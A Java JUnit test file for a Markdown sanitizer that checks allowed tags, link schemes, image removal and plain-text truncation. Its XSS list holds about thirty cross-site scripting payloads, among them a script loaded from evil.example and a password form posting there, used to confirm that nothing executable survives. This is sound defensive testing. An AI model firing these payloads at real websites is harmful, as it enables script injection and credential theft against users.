package org.pilotbridge.shared;

import java.util.List;
import java.util.Locale;
import java.util.Set;

import org.jsoup.Jsoup;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

import static org.assertj.core.api.Assertions.assertThat;

class MarkdownTests {

	/**
	 * Attempts to run code or load something through a text; none may survive as markup.
	 */
	static final List<String> XSS = List.of("<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
			"<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
			"<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">click</a>",
			"[click](javascript:alert(1))", "[click](JaVaScRiPt:alert(1))", "[click](java\tscript:alert(1))",
			"[click](&#106;avascript:alert(1))", "[click](&#x6A;avascript&#x3A;alert(1))",
			"[click](vbscript:msgbox(1))", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
			"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
			"![x\" onerror=\"alert(1)](https://example.org/a.png)",
			"<div style=\"background:url(javascript:alert(1))\">x</div>", "<p onclick=alert(1)>x</p>",
			"<details open ontoggle=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
			"<<script>script>alert(1)<</script>/script>",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
			"[a](https://example.org \"title\" onmouseover=alert(1))",
			"<a href=\"https://example.org\" onmouseover=\"alert(1)\">hover</a>", "`<script>alert(1)</script>`",
			"```html\n<script>alert(1)</script>\n```",
			"<form action=\"https://evil.example\"><input name=password></form>",
			"<object data=\"javascript:alert(1)\"></object>", "<base href=\"https://evil.example/\">",
			"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">");

	private static final Set<String> ALLOWED_ELEMENTS = Set.of("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "em",
			"strong", "code", "pre", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "a");

	private static final Set<String> ALLOWED_ATTRIBUTES = Set.of("href", "rel", "start", "align");

	@ParameterizedTest
	@FieldSource("XSS")
	void leavesNothingThatCouldRunOrLoad(String attack) {
		var html = Markdown.toSafeHtml(attack);
		var body = Jsoup.parseBodyFragment(html).body();

		for (var element : body.getAllElements().subList(1, body.getAllElements().size())) {
			assertThat(element.tagName()).as("element in %s", html).isIn(ALLOWED_ELEMENTS);
			for (var attribute : element.attributes()) {
				assertThat(attribute.getKey()).as("attribute in %s", html).isIn(ALLOWED_ATTRIBUTES);
				if (attribute.getKey().equals("href")) {
					assertThat(attribute.getValue().toLowerCase(Locale.ROOT)).as("link in %s", html)
						.matches("(https?|mailto):.*");
				}
			}
		}
		// What is left of the attack is text: a browser shows it and runs nothing.
		assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("<script", "<img", "<svg", "<iframe", "<style",
				" onerror=", " onload=", " style=");
	}

	@Test
	void showsTypedHtmlAsText() {
		assertThat(Markdown.toSafeHtml("Use <b>bold</b> & <script>x</script>"))
			.isEqualTo("<p>Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt;</p>");
	}

	@Test
	void rendersTheAllowedMarkup() {
		var html = Markdown.toSafeHtml("""
				# Problem
				## Context
				Some *emphasis*, **strong** and `code`.

				- one
				- two

				3. three
				4. four

				> quoted

				```
				block
				```

				| a | b |
				|:--|--:|
				| 1 | 2 |
				""");

		assertThat(html).contains("<h3>Problem</h3>", "<h4>Context</h4>", "<em>emphasis</em>",
				"<strong>strong</strong>", "<code>code</code>", "<ul>", "<li>one</li>", "<ol start=\"3\">",
				"<blockquote>", "<pre><code>block", "<table>", "<th align=\"left\">a</th>",
				"<td align=\"right\">2</td>");
		assertThat(html).doesNotContain("<h1", "<h2");
	}

	@Test
	void marksLinksAsNotEndorsedAndKeepsOnlyWebAndMailAddresses() {
		var link = Jsoup.parseBodyFragment(Markdown.toSafeHtml("[site](https://example.org/a?b=c&d=e)"))
			.selectFirst("a");
		assertThat(link.attr("href")).isEqualTo("https://example.org/a?b=c&d=e");
		assertThat(link.attr("rel").split(" ")).containsExactlyInAnyOrder("nofollow", "noopener");
		assertThat(Markdown.toSafeHtml("[click](javascript:alert(1))")).isEqualTo("<p>click</p>");
		assertThat(Markdown.toSafeHtml("Write to <mailto:team@example.org>"))
			.contains("href=\"mailto:team&#64;example.org\"");
		assertThat(Markdown.toSafeHtml("See https://example.org/page"))
			.contains("<a href=\"https://example.org/page\"");
		assertThat(Markdown.toSafeHtml("[ftp](ftp://example.org/file)")).doesNotContain("href");
	}

	@Test
	void leavesOutImagesEntirely() {
		assertThat(Markdown.toSafeHtml("![a tracking pixel](https://example.org/pixel.png)")).doesNotContain("img",
				"pixel.png");
	}

	@Test
	void givesThePlainTextOnOneLine() {
		assertThat(Markdown.plainText("""
				# Title

				A *short* text with [a link](https://example.org) and <b>tags</b>.

				- item one
				- item two
				""", 200)).isEqualTo("Title A short text with a link and tags. item one item two");
	}

	@Test
	void cutsPlainTextAtAWordBoundary() {
		var text = Markdown.plainText("The municipality wants fewer empty school buses on rural roads", 30);

		assertThat(text).hasSizeLessThanOrEqualTo(30).endsWith("…").isEqualTo("The municipality wants fewer…");
		assertThat(Markdown.plainText("short", 30)).isEqualTo("short");
		assertThat(Markdown.plainText("", 30)).isEmpty();
	}

}
